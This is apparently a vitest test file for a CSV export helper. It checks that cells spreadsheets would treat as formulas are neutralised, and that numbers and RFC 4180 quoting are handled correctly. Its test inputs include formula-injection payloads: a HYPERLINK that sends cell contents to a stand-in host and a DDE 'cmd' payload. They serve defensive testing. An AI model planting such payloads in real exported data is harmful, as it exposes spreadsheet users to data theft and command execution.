import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvField, toCsvLine } from "./to-csv-line";

const readBack = (line: string) => (parse(line, { relaxQuotes: false }) as string[][])[0];

describe("toCsvLine", () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"open")', `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ["-2+3", `"'-2+3"`],
    ["@SUM(A1:A9)", `"'@SUM(A1:A9)"`],
    ["\t=1+2", `"'\t=1+2"`],
    ["\r=1+2", `"'\r=1+2"`],
  ])("neutralises a cell a spreadsheet would read as a formula: %j", (cell, written) => {
    expect(csvField(cell)).toBe(written);
    expect(readBack(toCsvLine([cell, "next"]))).toEqual([`'${cell}`, "next"]);
  });

  it("keeps numbers as numbers, whether typed as numbers or as plain numeric text", () => {
    expect(toCsvLine([-5, 0, 12.5, "-12.5", "+3", "-1e3", ".5", true, null])).toBe(
      "-5,0,12.5,-12.5,+3,-1e3,.5,true,\r\n",
    );
  });

  it("leaves ordinary text alone and quotes separators, quotes and line breaks (RFC 4180)", () => {
    expect(toCsvLine(["a", "b=c", "x-y", "2026-11-01T10:00:00.000Z"])).toBe("a,b=c,x-y,2026-11-01T10:00:00.000Z\r\n");
    expect(toCsvLine(['say "hi"', "a,b", "a\r\nb"])).toBe('"say ""hi""","a,b","a\r\nb"\r\n');
  });

  it("quotes a field holding ';' or TAB, so a spreadsheet splitting on them keeps one cell", () => {
    expect(toCsvLine(["a;=1+2", "a\t=1+2"])).toBe('"a;=1+2","a\t=1+2"\r\n');
    expect(readBack(toCsvLine(["a;=1+2", "ok"]))).toEqual(["a;=1+2", "ok"]);
  });
});
